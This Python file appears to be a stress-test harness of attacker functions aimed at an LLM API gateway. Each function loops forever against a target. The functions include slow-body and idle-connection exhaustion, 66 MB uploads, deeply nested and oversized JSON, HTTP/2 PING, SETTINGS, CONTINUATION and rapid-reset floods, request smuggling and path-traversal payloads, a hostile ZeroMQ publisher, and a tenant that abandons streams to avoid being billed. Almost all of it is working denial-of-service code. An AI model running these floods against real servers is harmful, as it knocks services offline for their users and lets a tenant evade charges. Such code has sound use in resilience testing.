"""Who wants the gateway's service for themselves, or from the others: each function is one attacker, which goes on until it is killed
and prints nothing. All are written against the protocols, not against this gateway.
"""

import http.client
import itertools
import json
import os
import random
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
CHAT = "/v1/chat/completions"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field as HPACK writes it without an index (RFC 7541, section 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def post_head(target, key, **more):
    fields = {":method": "POST", ":scheme": "http", ":path": CHAT, ":authority": "x", "content-type": "application/json"}
    if key:
        fields["authorization"] = f"Bearer {key}"
    return b"".join(literal(name, value) for name, value in (fields | more).items())


def connect(target):
    return socket.create_connection(target, timeout=5)


def forever(step):
    """Tries again whatever happens to a connection, as attackers do."""
    for serial in itertools.count():
        try:
            step(serial)
        except (OSError, http.client.HTTPException, ValueError):
            time.sleep(0.2)


def drain(connections):
    for connection in connections:
        connection.setblocking(False)
        try:
            while connection.recv(1 << 16):
                pass
        except OSError:
            pass
        connection.setblocking(True)


def slow_bodies(target, key):
    """16 connections of 256 streams over HTTP/2, each a body of which a byte comes now and then."""
    def step(_):
        head, connections = post_head(target, key), []
        for _ in range(16):
            connection = connect(target)
            streams = b"".join(frame(HEADERS, 4, 2 * i + 1, head) for i in range(256))
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + streams)
            connections.append(connection)
        for _ in range(20):
            time.sleep(3)
            drain(connections)
            for connection in connections:
                connection.sendall(b"".join(frame(DATA, 0, 2 * i + 1, b"{") for i in range(256)))
    forever(step)


def idle(target, key):
    """1,500 connections that say nothing, half a head, or only that they speak HTTP/2."""
    def step(_):
        connections = []
        for i in range(1500):
            connection = connect(target)
            connection.sendall((b"", b"POST /v1/chat/comp", PREFACE + frame(SETTINGS, 0, 0))[i % 3] or b"\r\n")
            connections.append(connection)
        time.sleep(30)
    forever(step)


def large_bodies(target, key):
    """50 bodies of 66 MB at once, all but the last byte as fast as they are taken, and then nothing."""
    def step(_):
        size, block, connections = 66_000_000, b"x" * (1 << 18), []
        head = f"POST {CHAT} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {key}\r\ncontent-length: {size}\r\n\r\n"
        for _ in range(50):
            connection = connect(target)
            connection.sendall(head.encode() + b'{"model":"mock","messages":[{"role":"user","content":"')
            connection.setblocking(False)
            connections.append([connection, size - 100])
        until = time.monotonic() + 20
        while time.monotonic() < until:
            for pair in connections:
                try:
                    if pair[1] > 0:
                        pair[1] -= pair[0].send(block[: pair[1]])
                except OSError:
                    pass
            time.sleep(0.02)
    forever(step)


def large_json(target, key):
    """Bodies of 20 MB that are costly to read: objects without anything in them, keys, depth, a number, a prompt."""
    bodies = [
        b'{"model":"mock","messages":[' + b"{}," * 6_000_000 + b"{}]}",
        b'{"model":"mock",' + b",".join(b'"k%d":1' % i for i in range(1_500_000)) + b"}",
        b'{"model":"mock","messages":' + b"[" * 9_000_000 + b"]" * 9_000_000 + b"}",
        b'{"model":"mock","messages":[],"n":' + b"9" * 20_000_000 + b"}",
        b'{"model":"mock","max_tokens":1,"messages":[{"role":"user","content":"' + os.urandom(5_000_000).hex().encode() + b'"}]}',
    ]

    def step(serial):
        connection = http.client.HTTPConnection(*target, timeout=20)
        headers = {"content-type": "application/json", "authorization": f"Bearer {key}"}
        connection.request("POST", CHAT, bodies[serial % len(bodies)], headers)
        connection.getresponse().read()
        connection.close()
        time.sleep(2)
    forever(step)


def floods(target, key):
    """Frames over HTTP/2 that cost a client nothing, one kind a connection; streams that are opened to be reset."""
    head = post_head(target, key)

    def step(serial):
        kinds = [
            frame(PING, 0, 0, b"12345678") * 1000,
            frame(SETTINGS, 0, 0) * 1000,
            frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000,
            frame(DATA, 0, 1, b"") * 1000,
            frame(HEADERS, 0, 1, head) + frame(CONTINUATION, 0, 1, b"") * 1000,
            b"".join(frame(HEADERS, 4, 2 * i + 1, head) + frame(RST_STREAM, 0, 2 * i + 1, b"\0\0\0\x08") for i in range(500)),
        ]
        with connect(target) as connection:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
            for _ in range(20):
                connection.sendall(kinds[serial % len(kinds)])
                time.sleep(0.05)
        time.sleep(0.1)
    forever(step)


def leavers(target, key):
    """A tenant that leaves each stream before its end, by every API, to be charged nothing."""
    bodies = {
        CHAT: {"messages": [{"role": "user", "content": "tell me all"}]},
        "/v1/completions": {"prompt": "tell me all"},
        "/v1/messages": {"messages": [{"role": "user", "content": "tell me all"}]},
        "/v1/%72esponses": {"input": "tell me all"},
    }

    def step(serial):
        path, body = list(bodies.items())[serial % len(bodies)]
        text = json.dumps(body | {"model": "mock", "stream": True, "max_tokens": 500}).encode()
        with connect(target) as connection:
            head = f"POST {path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\nauthorization: Bearer {key}\r\n"
            connection.sendall(head.encode() + b"content-length: %d\r\n\r\n" % len(text) + text)
            connection.recv(2048)
            time.sleep(random.uniform(0, 0.2))
        time.sleep(0.05)
    forever(step)


def nonsense(target, key):
    """Bytes that are no request, or may be two."""
    texts = [
        b"GET / HTTP/1.1\r\n\r\n",
        b"POST %s HTTP/1.1\r\nhost: x\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET" % CHAT.encode(),
        b"POST /v1/x%2f..%2fmetrics HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n",
        b"\x16\x03\x01" + os.urandom(200),
        os.urandom(4000),
        b"GET /v1/models HTTP/1.1\r\nhost: x\r\n" + b"".join(b"x-%d: %s\r\n" % (i, b"y" * 900) for i in range(200)) + b"\r\n",
        b"POST %s HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\nffffffffffffffff\r\n" % CHAT.encode(),
    ]

    def step(serial):
        with connect(target) as connection:
            connection.sendall(texts[serial % len(texts)])
            connection.recv(1000)
        time.sleep(0.02)
    forever(step)


def publisher(port, _):
    """A worker's publisher of KV events that says of a message that it has 2^46 bytes, or that another part follows, for ever."""
    server = socket.create_server(("127.0.0.1", port))
    greeting = b"\xff" + bytes(8) + b"\x7f\x03\x00NULL" + bytes(16) + bytes(32)
    ready = b"\x04" + bytes([26]) + b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", 3) + b"PUB" + b""

    def step(serial):
        connection, _ = server.accept()
        connection.settimeout(5)
        connection.sendall(greeting)
        connection.recv(64)
        connection.sendall(b"\x04" + bytes([len(ready) - 2]) + ready[2:])
        connection.recv(1000)
        if serial % 2:
            connection.sendall(b"\x02" + struct.pack(">Q", 1 << 46) + b"x" * 1000)
            time.sleep(1)
        for _ in range(2000):
            connection.sendall(b"\x01\x04more" * 100)
    forever(step)


def explainers(target, _):
    """60 MB to the operators' `/explain`, from whoever reaches that."""
    body = b'{"model":"mock","messages":[{"role":"user","content":"' + b"words " * 10_000_000 + b'"}]}'

    def step(_serial):
        connection = http.client.HTTPConnection(*target, timeout=20)
        connection.request("POST", "/explain", body, {"content-type": "application/json"})
        connection.getresponse().read()
        connection.close()
        time.sleep(1)
    forever(step)
